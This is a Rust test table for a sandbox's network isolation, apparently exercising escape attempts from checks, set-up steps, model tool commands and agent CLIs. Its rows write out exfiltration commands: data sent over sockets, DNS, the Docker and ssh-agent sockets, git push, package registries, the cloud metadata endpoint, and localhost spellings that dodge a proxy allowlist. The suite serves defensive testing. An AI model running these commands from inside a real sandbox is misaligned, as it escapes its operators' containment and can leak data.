//! Reaching others.

use super::{Attempt, Free, Need, PYTHON, Sign, row};

const SPACES: &[Need] = &[Need::Program("python3"), Need::Namespaces];
const NO_PROXY: Free = Free::Never("without a wall there is no proxy");

/// Sends a word to a port of the machine's loopback.
const TCP: &str = "python3 -c 'from tools import *; send(\"127.0.0.1\", {tcp})'";
/// Serves itself over a loopback of its own.
const OWN_TCP: &str = "python3 -c 'from tools import *; l = socket.create_server((\"127.0.0.1\", 0)); send(*l.getsockname()); assert l.accept()[0].recv(9) == b\"leak\"'";
/// Reaches the one port that settings name.
const ALLOWED: &str = "python3 -c 'from tools import *; s = socket.create_connection((\"127.0.0.1\", {tcp}), 5); s.sendall(b\"GET / HTTP/1.0\\r\\n\\r\\n\"); assert b\"404\" in s.recv(99)'";
const PAIR: &str = "python3 -c 'import socket; a, b = socket.socketpair(); a.send(b\"x\"); assert b.recv(1) == b\"x\"'";

/// Through the gateway of set-up, whose settings name one port of this machine.
const fn beside_one_host(name: &'static str, sign: Sign, attack: &'static str) -> Attempt {
    row(name, sign, attack, ALLOWED)
        .preset("setup")
        .settings("[sandbox.setup]\nhosts = [\"127.0.0.1:{tcp}\"]\n")
        .needs(SPACES)
}

pub const ROWS: &[Attempt] = &[
    row("a service on this machine, from a check", Sign::Heard, TCP, OWN_TCP)
        .preset("verify")
        .needs(SPACES),
    row("a service on this machine, from a model's command", Sign::Heard, TCP, OWN_TCP)
        .preset("engine-tool")
        .needs(SPACES),
    row("a service on this machine, from set-up", Sign::Heard, TCP, OWN_TCP)
        .preset("setup")
        .needs(SPACES),
    row("a service on this machine, from an agent", Sign::Heard, TCP, OWN_TCP)
        .preset("agent-cli")
        .needs(SPACES),
    row(
        "a service without any network",
        Sign::Heard,
        TCP,
        PAIR,
    )
    .preset("verify")
    .settings("[sandbox.verify]\nnetwork = \"none\"\n")
    .needs(PYTHON),
    row(
        "an address of this machine",
        Sign::Heard,
        "python3 -c 'from tools import *; send(\"{ip}\", {ipport})'",
        OWN_TCP,
    )
    .needs(&[Need::Program("python3"), Need::Namespaces, Need::Address]),
    row(
        "a service by version 6 of the protocol",
        Sign::Heard,
        "python3 -c 'from tools import *; send(\"::1\", {tcp6})'",
        "python3 -c 'from tools import *; l = socket.create_server((\"::1\", 0), family=socket.AF_INET6); send(*l.getsockname()[:2])'",
    )
    .needs(&[Need::Program("python3"), Need::Namespaces, Need::Version6]),
    row(
        "a datagram",
        Sign::Heard,
        "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"leak\", (\"127.0.0.1\", {udp}))'",
        "python3 -c 'import socket; a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); a.bind((\"127.0.0.1\", 0)); a.sendto(b\"own\", a.getsockname()); assert a.recv(9) == b\"own\"'",
    )
    .needs(SPACES),
    row(
        "a secret in a question for a name",
        Sign::Heard,
        "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04leak\\x07example\\x03org\\x00\\x00\\x10\\x00\\x01\", (\"127.0.0.1\", {udp}))'",
        "getent hosts localhost",
    )
    .needs(SPACES),
    row(
        "a far address",
        Sign::Says("GOT-OUT"),
        "python3 -c 'from tools import *; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((\"192.0.2.1\", 9)); print(\"GOT-\" + \"OUT\")'",
        "python3 -c 'from tools import *; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((\"127.0.0.1\", 9))'",
    )
    .free(Free::Perhaps)
    .needs(SPACES),
    row(
        "a daemon by its socket, such as Docker's",
        Sign::Heard,
        "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"{w}/run/docker.sock\"); s.send(b\"leak\")' # {unix}",
        PAIR,
    )
    .needs(PYTHON),
    row(
        "a daemon by a socket that lies in the lane",
        Sign::Heard,
        "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"service.sock\"); s.send(b\"leak\")' # {unix}",
        PAIR,
    )
    .needs(PYTHON),
    row(
        "a log by datagrams",
        Sign::Heard,
        "python3 -c 'import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b\"leak\", \"{w}/run/log.sock\")' # {unix}",
        PAIR,
    )
    .needs(PYTHON),
    row(
        "a log by an end of a pair",
        Sign::Heard,
        "python3 -c 'import socket; a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.connect(\"{w}/run/log.sock\"); a.send(b\"leak\")' # {unix}",
        PAIR,
    )
    .needs(PYTHON),
    row(
        "an abstract socket",
        Sign::Heard,
        "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"\\0{tag}\"); s.send(b\"leak\")' # {unix}",
        PAIR,
    )
    .needs(PYTHON),
    row(
        "an abstract socket where Unix sockets are allowed",
        Sign::Heard,
        "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"\\0{tag}\"); s.send(b\"leak\")' # {unix}",
        "python3 -c 'import socket; l = socket.socket(socket.AF_UNIX); l.bind(\"\\0own-{tag}\"); l.listen(); s = socket.socket(socket.AF_UNIX); s.connect(\"\\0own-{tag}\")'",
    )
    .preset("verify")
    .settings("[sandbox.verify]\nunix_sockets = true\n")
    .needs(&[Need::Program("python3"), Need::Landlock(6)]),
    row(
        "the agent of ssh",
        Sign::Heard,
        "SSH_AUTH_SOCK={w}/run/docker.sock ssh-add -l # {unix}",
        "test -z \"$SSH_AUTH_SOCK\"",
    )
    .needs(&[Need::Program("ssh-add")]),
    row(
        "the bus of the session",
        Sign::Heard,
        "DBUS_SESSION_BUS_ADDRESS=unix:path={w}/run/docker.sock dbus-send --session --dest=org.example / org.example.Leak # {unix}",
        "test -z \"$DBUS_SESSION_BUS_ADDRESS\"",
    )
    .needs(&[Need::Program("dbus-send")]),
    row(
        "a page",
        Sign::Heard,
        "curl -s --noproxy '*' http://127.0.0.1:{tcp}/leak",
        "curl -s file://{lane}/README.md",
    )
    .needs(&[Need::Program("curl"), Need::Namespaces]),
    row(
        "a repository over http",
        Sign::Heard,
        "GIT_TERMINAL_PROMPT=0 git ls-remote http://127.0.0.1:{tcp}/leak",
        "git ls-remote {repo}/.git > /dev/null",
    )
    .preset("verify")
    .needs(&[Need::Namespaces]),
    row(
        "a push over http",
        Sign::Heard,
        "GIT_TERMINAL_PROMPT=0 git push http://127.0.0.1:{tcp}/leak HEAD:refs/heads/evil",
        "git init -q --bare own.git && git push -q {lane}/own.git HEAD:refs/heads/own",
    )
    .preset("engine-tool")
    .needs(&[Need::Namespaces]),
    row(
        "npm's registry, from a check",
        Sign::Heard,
        "npm view leak --fetch-retries=0 --registry http://127.0.0.1:{tcp}/",
        "npm --version",
    )
    .preset("verify")
    .needs(&[Need::Program("npm"), Need::Namespaces]),
    row(
        "pip's index, from a check",
        Sign::Heard,
        "/usr/bin/python3 -m pip download --no-cache-dir --disable-pip-version-check --retries 0 --index-url http://127.0.0.1:{tcp}/ leak",
        "/usr/bin/python3 -m pip --version",
    )
    .preset("verify")
    .needs(&[Need::Program("pip3"), Need::Namespaces]),
    row(
        "go's proxy, from a check",
        Sign::Heard,
        "cd sub && GOFLAGS=-mod=mod GOPROXY=http://127.0.0.1:{tcp} GONOSUMDB=* GONOSUMCHECK=1 go list -m example.org/leak@v1.0.0",
        "go env GOMODCACHE",
    )
    .preset("verify")
    .needs(&[Need::Program("go"), Need::Namespaces]),
    beside_one_host(
        "a host that is no registry, from set-up",
        Sign::Says("GOT-OUT"),
        "python3 -c 'from tools import *; proxied(\"elsewhere.example.org:443\")'",
    )
    .free(NO_PROXY),
    row(
        "a host that is not the agent's",
        Sign::Says("GOT-OUT"),
        "python3 -c 'from tools import *; proxied(\"elsewhere.example.org:443\")'",
        ALLOWED,
    )
    .preset("agent-cli")
    .settings("[sandbox.agent-cli]\nhosts = [\"127.0.0.1:{tcp}\"]\n")
    .free(NO_PROXY)
    .needs(SPACES),
    beside_one_host(
        "a port of this machine that nobody named",
        Sign::Heard,
        "python3 -c 'from tools import *; send(\"127.0.0.1\", {tcp2})'",
    ),
    beside_one_host(
        "such a port through the proxy",
        Sign::Heard,
        "python3 -c 'from tools import *; proxied(\"127.0.0.1:{tcp2}\")'",
    ),
    beside_one_host(
        "such a port by another spelling",
        Sign::Heard,
        "python3 -c 'from tools import *\nfor h in (\"localhost\", \"127.1\", \"0x7f000001\", \"2130706433\", \"[::ffff:127.0.0.1]\", \"0.0.0.0\"):\n  try: proxied(h + \":{tcp2}\")\n  except OSError as e: print(e)'",
    ),
    beside_one_host(
        "the metadata of a cloud",
        Sign::Says("GOT-OUT"),
        "python3 -c 'from tools import *; proxied(\"169.254.169.254:80\")'",
    )
    .free(NO_PROXY),
    row(
        "the metadata of a cloud by a whole address",
        Sign::Says("GOT-OUT"),
        "curl -si -m 5 http://169.254.169.254/latest/meta-data/ | head -1 | grep ' 403 ' || echo GOT-OUT",
        ALLOWED,
    )
    .preset("agent-cli")
    .settings("[sandbox.agent-cli]\nhosts = [\"127.0.0.1:{tcp}\"]\n")
    .free(Free::Never("nobody answers at that address here"))
    .needs(&[Need::Program("python3"), Need::Program("curl"), Need::Namespaces]),
    beside_one_host(
        "a private address",
        Sign::Says("GOT-OUT"),
        "python3 -c 'from tools import *\nfor h in (\"10.0.0.1:443\", \"192.168.0.1:443\", \"[fd00::1]:443\", \"100.64.0.1:443\"): proxied(h)'",
    )
    .free(NO_PROXY),
    beside_one_host(
        "another port of a registry",
        Sign::Says("GOT-OUT"),
        "python3 -c 'from tools import *; proxied(\"github.com:22\")'",
    )
    .free(NO_PROXY),
    row(
        "this machine by a listed name that leads to it",
        Sign::Heard,
        "python3 -c \"from tools import *; proxied('$(cat /proc/sys/kernel/hostname):{tcp2}')\"",
        ALLOWED,
    )
    .preset("setup")
    .settings("[sandbox.setup]\nhosts = [\"127.0.0.1:{tcp}\", \"{host}:{tcp2}\"]\n")
    .free(Free::Perhaps)
    .needs(SPACES),
    row(
        "no proxy at all, to a listed address",
        Sign::Heard,
        "python3 -c 'from tools import *; send(\"{ip}\", {ipport})'",
        ALLOWED,
    )
    .preset("setup")
    .settings("[sandbox.setup]\nhosts = [\"127.0.0.1:{tcp}\", \"{ip}:{ipport}\"]\n")
    .needs(&[Need::Program("python3"), Need::Namespaces, Need::Address]),
    row(
        "another port of a listed address",
        Sign::Heard,
        "python3 -c 'from tools import *\nfor h in (\"{ip}:{ipport}\", \"127.0.0.1:{tcp2}\"): proxied(h)'",
        ALLOWED,
    )
    .preset("setup")
    .settings("[sandbox.setup]\nhosts = [\"127.0.0.1:{tcp}\", \"{ip}:{tcp2}\"]\n")
    .needs(&[Need::Program("python3"), Need::Namespaces, Need::Address]),
    row(
        "a network interface of its own making",
        Sign::Says("GOT-OUT"),
        "ip link add dummy0 type dummy && ip link del dummy0 && echo GOT-OUT",
        "cat /proc/net/dev > /dev/null",
    )
    .free(Free::Perhaps)
    .needs(&[Need::Program("ip"), Need::Namespaces]),
    row(
        "a service by data that comes with the first packet",
        Sign::Heard,
        "python3 -c 'import socket; s = socket.socket(); s.sendto(b\"leak\", socket.MSG_FASTOPEN, (\"127.0.0.1\", {tcp}))'",
        OWN_TCP,
    )
    .free(Free::Perhaps)
    .needs(SPACES),
    row(
        "a service by several paths",
        Sign::Heard,
        "python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect((\"127.0.0.1\", {tcp})); s.sendall(b\"leak\")'",
        OWN_TCP,
    )
    .free(Free::Perhaps)
    .needs(SPACES),
];
